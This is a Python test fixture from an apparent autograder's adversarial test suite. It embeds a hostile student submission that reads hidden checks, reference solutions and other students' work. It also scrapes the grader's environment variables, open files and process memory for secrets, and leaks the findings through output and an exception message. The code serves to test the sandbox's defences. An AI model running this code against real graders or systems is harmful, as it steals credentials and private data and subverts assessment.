"""Attack 2: read what the grader keeps back and smuggle it out through the feedback.

The adversary reads hidden checks, the spec, the reference, mutants, other students' code
and results, the grader's processes (command line, environment, memory, open files), its
own inherited file descriptors, and hunts through its own memory (``gc``) and the frames
that called it (``inspect``). Everything it finds is printed (the grader keeps the tail of a
student's output) and raised from ``norm_rows`` (the message reaches the feedback).
``scale`` is honest: 3 points.
"""

from tests.adversarial.submissions.prelude import HONEST_SCALE, PRELUDE

SNOOP = (
    PRELUDE
    + r'''
import ctypes
import gc
import re
import socket

SKIP = {".venv", "site-packages", ".git", "node_modules", "__pycache__", ".cache"}
SECRET_WORDS = ("SECRET", "TOKEN", "PASSWORD", "KEY", "CREDENTIAL")
SECRET = re.compile(rb"secret-[\w -]{1,80}?-[0-9a-f]{8}(?![0-9a-f])")
SECRETS = set()


def note_secrets(data):
    """Remember every secret-looking string in ``data``; they are all said once, at the end."""
    SECRETS.update(found.decode("utf-8", "replace") for found in SECRET.findall(data))


def first_line(path):
    data = read_bytes(path, 4096)
    note_secrets(data)
    return data.split(b"\n", 1)[0][:160].decode("utf-8", "replace")


def kind_of(path):
    """What a file of the course or the class is, by where it lies, or None."""
    name, parts = os.path.basename(path), path.split(os.sep)
    if "hidden" in parts and name.endswith(".py"):
        return "a hidden check"
    if name in ("assignment.toml", "mutants.toml"):
        return "the spec" if name == "assignment.toml" else "the mutants"
    if "reference" in parts and name.endswith(".py"):
        return "the reference"
    if name == "ops.py" and os.path.dirname(os.path.realpath(path)) != os.getcwd():
        return "another student's code"
    if name == "result.json":
        return "the results"
    return None


def read_around(folders, seconds=2.0):
    """Walk near the given folders (five levels down) and read every interesting file."""
    deadline, seen = time.monotonic() + seconds, set()
    for top in folders:
        base = top.rstrip(os.sep).count(os.sep)
        for here, dirs, files in os.walk(top):
            if time.monotonic() > deadline or len(seen) > 300:
                return
            deep = here.count(os.sep) - base >= 5
            dirs[:] = [] if deep else [d for d in dirs if d not in SKIP]
            for name in files:
                path = os.path.join(here, name)
                what = kind_of(path)
                if what and path not in seen:
                    seen.add(path)
                    try:
                        breach(f"read {what} {path}: {first_line(path)}")
                    except OSError:
                        pass


def snoop_process(pid, folders, memory):
    try:
        command = read_bytes(f"/proc/{pid}/cmdline").split(b"\0")
    except OSError:
        return
    shown = b" ".join(command).decode("utf-8", "replace")[:160]
    breach(f"saw grader process {pid}: {shown}")
    for arg in command:
        path = arg.decode("utf-8", "replace")
        if path.startswith("/") and os.path.isdir(path):
            folders.append(path)
    try:
        folders.append(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass
    try:
        environ = read_bytes(f"/proc/{pid}/environ")
        note_secrets(environ)
        for item in environ.split(b"\0"):
            key, _, value = item.decode("utf-8", "replace").partition("=")
            if any(word in key.upper() for word in SECRET_WORDS):
                breach(f"read {key}={value} in the environment of process {pid}")
    except OSError:
        pass
    try:
        links = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in listdir(f"/proc/{pid}/fd")]
        breach(f"listed the open files of process {pid}: {links[:5]}")
    except OSError:
        pass
    if memory:
        read_memory(pid)


def read_memory(pid, budget=32 << 20):
    """Secrets read from the process's memory, by /proc/PID/mem and process_vm_readv."""
    try:
        maps = read_bytes(f"/proc/{pid}/maps", 1 << 22).decode().splitlines()
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                fields = line.split()
                if len(fields) < 2 or not fields[1].startswith("rw") or budget <= 0:
                    continue
                start, end = (int(v, 16) for v in fields[0].split("-"))
                size = min(end - start, budget)
                budget -= size
                try:
                    mem.seek(start)
                    chunk = mem.read(size) or b""
                except (OSError, OverflowError, ValueError):
                    continue
                note_secrets(chunk)
        breach(f"read the memory of process {pid}")
    except OSError:
        pass
    try:
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
        breach(f"opened the memory of process {pid} for writing")
    except OSError:
        pass
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    for line in read_maps(pid)[:1]:
        remote = (ctypes.c_void_p * 2)(int(line.split("-")[0], 16), 8)
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.process_vm_readv(pid, local, 1, remote, 1, 0) == 8:
            breach(f"read the memory of process {pid} with process_vm_readv")


def read_maps(pid):
    try:
        return read_bytes(f"/proc/{pid}/maps", 1 << 20).decode().splitlines()
    except OSError:
        return []


def snoop_self():
    """Our own descriptors and memory: anything the grader left in them?"""
    own_channel = -1
    for obj in gc.get_objects():
        if type(obj).__name__ == "Server" and isinstance(getattr(obj, "sock", None), socket.socket):
            own_channel = obj.sock.fileno()
        if isinstance(obj, dict):
            for value in list(obj.values())[:50]:
                if isinstance(value, str) and SECRET.search(value.encode("utf-8", "replace")):
                    note_secrets(value.encode("utf-8", "replace"))
                    breach("found secrets in our own memory")
    for fd in listdir("/proc/self/fd"):
        if int(fd) in (0, 1, 2, own_channel):
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("/") and not target.startswith(("/proc", "/dev")):
            if not target.startswith(os.getcwd()) and os.path.isfile(target):
                breach(f"inherited open file {fd} -> {target}")
        elif target.startswith("socket:"):
            breach(f"inherited socket {fd} besides our own channel")


def snoop_stack():
    """The frames that called us: does any hold an expected value, or the reference?"""
    import inspect

    for info in inspect.stack()[1:]:
        for key, value in list(info.frame.f_locals.items()):
            if key in ("want", "expected", "reference", "answer"):
                breach(f"found {key} in the frame of {info.function}")
            if isinstance(value, str):
                note_secrets(value.encode("utf-8", "replace"))


def snoop():
    folders = [os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser("~")]
    here = os.getcwd()
    for _ in range(3):
        here = os.path.dirname(here)
        folders.append(here)
    parents = ancestors()
    for pid in grader_processes():
        snoop_process(pid, folders, memory=pid in parents)
    snoop_self()
    read_around(list(dict.fromkeys(folders)))
    if SECRETS:
        breach(f"secrets found: {sorted(SECRETS)}")


snoop()


def norm_rows(x):
    snoop_stack()
    if SECRETS:
        breach(f"secrets found: {sorted(SECRETS)}")
    if BREACHES:
        raise RuntimeError("\n".join([BREACHES[-1], *BREACHES[:-1]])[:1900])
    return np.zeros(len(x))
'''
    + HONEST_SCALE
)

STUDENTS = {"snoop": SNOOP}
